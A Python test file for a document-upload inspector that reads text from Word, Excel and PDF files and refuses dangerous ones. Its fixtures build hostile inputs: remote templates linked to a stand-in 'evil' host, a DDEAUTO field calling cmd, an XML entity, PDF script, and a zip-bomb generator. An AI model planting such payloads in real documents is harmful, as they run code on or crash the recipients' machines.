"""What is in a file: its words are read, and whatever hides in it is refused before it can do anything."""

import io
import struct
import time
import zipfile

import pytest

from submissions.inspection import Unfit, inspect
from submissions.tests.papers import changed, pdf, picture, sheet, word

WORD, SHEET = word("一段话"), sheet("一格")
RELS = "word/_rels/document.xml.rels"


def linked(kind: str, target: str, mode: str = "External"):
    row = f'<Relationship Id="x" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return changed(WORD, RELS, lambda old: old.replace(b"</Relationships>", row.encode() + b"</Relationships>"))


def encrypted_zip() -> bytes:
    content = bytearray(WORD)
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def bomb(size: int = 151_000_000) -> bytes:
    """A few hundred kilobytes that would become 151 MB."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "x")
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            for _ in range(size // 1_000_000):
                part.write(b"<c/>" * 250_000)
    return made.getvalue()


def lying(size: int) -> bytes:
    """A file whose directory says that a part is small."""
    content = bytearray(changed(WORD, "word/media/x.xml", lambda old: b"<a>" + b"b" * 30_000_000 + b"</a>"))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(content)


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("a.docx", word("机密★十年", "第二段"), "机密★十年\n第二段"),
        ("A.DOCX", WORD, "一段话"),
        ("a.xlsx", sheet("内部资料", "数"), "内部资料\n数"),
        ("a.pdf", pdf("秘密★一年"), "秘密★一年"),
        ("a.docx", linked("hyperlink", "https://example.cn"), "一段话"),
    ],
)
def test_the_words_of_a_file_are_read(name, content, words):
    assert words in inspect(name, content).words


def test_words_of_headers_notes_and_properties_are_read_too():
    head = changed(
        WORD,
        "word/header1.xml",
        lambda old: "<w:hdr xmlns:w='w'><w:p><w:r><w:t>绝密★</w:t></w:r></w:p></w:hdr>".encode(),
    )
    assert "绝密★" in inspect("a.docx", head).words
    core = changed(WORD, "docProps/core.xml", lambda old: "<a><title>机密★</title></a>".encode())
    assert "机密★" in inspect("a.docx", core).words
    printed = changed(SHEET, "xl/worksheets/sheet2.xml", lambda old: "<a><oddHeader>秘密★</oddHeader></a>".encode())
    assert "秘密★" in inspect("a.xlsx", printed).words


@pytest.mark.parametrize("name", ["a.png", "a.jpg", "a.jpeg"])
def test_a_picture_has_no_words(name):
    made = picture("PNG" if name.endswith("png") else "JPEG")
    assert inspect(name, made).words is None
    assert inspect(name, made).kind in ("png", "jpg")


def test_a_scan_has_no_words_and_is_not_an_empty_text():
    assert inspect("a.pdf", pdf()).words is None


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.docx", changed(WORD, "word/vbaProject.bin", lambda old: b"x"), "宏"),
        (
            "a.docx",
            changed(
                WORD,
                "[Content_Types].xml",
                lambda old: old.replace(b"document.main+xml", b"x").replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.x",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                ),
            ),
            "宏",
        ),
        ("a.docx", changed(WORD, "word/embeddings/oleObject1.bin", lambda old: b"x"), "嵌有对象"),
        ("a.docx", changed(WORD, "word/activeX/activeX1.xml", lambda old: b"<a/>"), "控件"),
        (
            "a.docx",
            changed(WORD, "word/embeddings/x.docx", lambda old: changed(WORD, "word/vbaProject.bin", lambda o: b"x")),
            "宏",
        ),
        ("a.docx", encrypted_zip(), "加密"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600, "加密的，或者是旧格式"),
        ("a.docx", linked("attachedTemplate", "http://evil/x.dotm"), "别处的模板"),
        ("a.docx", linked("image", "http://evil/x.png"), "别处的模板"),
        ("a.docx", linked("oleObject", "file:///c:/x"), "别处的模板"),
        ("a.xlsx", changed(SHEET, "xl/externalLinks/externalLink1.xml", lambda old: b"<a/>"), "别处的工作簿"),
        (
            "a.docx",
            changed(WORD, "word/footer9.xml", lambda old: b"<a><instrText>DDEAUTO c:\\\\cmd</instrText></a>"),
            "域",
        ),
        ("a.docx", changed(WORD, "word/x.xml", lambda old: b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "读不懂"),
        ("a.xlsx", bomb(), "展开以后有"),
        ("a.docx", lying(100), "没有打开|损坏"),
        ("a.xlsx", WORD, "不是 .xlsx 文件"),
        ("a.docx", SHEET, "不是 .docx 文件"),
        ("a.docx", picture(), "打不开"),
        ("a.docx", WORD[: len(WORD) // 2], "打不开"),
        ("a.pdf", pdf("字", encrypted=True), "加密"),
        ("a.pdf", pdf("字", script="app.alert(1)"), "脚本"),
        ("a.pdf", pdf("字", attached=True), "别的文件"),
        ("a.pdf", b"%PDF-1.7\n" + b"x" * 500, "读不懂"),
        ("a.pdf", WORD, "不是 .pdf"),
        ("a.png", picture("JPEG"), "是 JPEG"),
        ("a.jpg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "不是 .jpg 图片"),
        ("a.png", picture()[:40], "损坏"),
        ("a.png", picture(size=(12_000, 8_000)), "太大"),
        ("a.svg", b"<svg/>", "不收 .svg"),
        ("a.html", b"<script>", "不收 .html"),
        ("a", b"x", "不收 .a"),
        ("a.docm", WORD, "不收 .docm"),
        ("a.png", b"", "空的"),
    ],
)
def test_what_hides_something_or_is_something_else_is_refused(name, content, said):
    with pytest.raises(Unfit, match=said):
        inspect(name, content)


def test_a_bomb_is_refused_before_it_is_unpacked():
    """Measured in one run: looking at the directory against unpacking it, as the naive way does."""
    content = bomb()
    began = time.perf_counter()
    with pytest.raises(Unfit):
        inspect("a.xlsx", content)
    looked = time.perf_counter() - began
    began = time.perf_counter()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert len(archive.read("xl/worksheets/sheet1.xml")) > 150_000_000
    assert looked < (time.perf_counter() - began) / 5
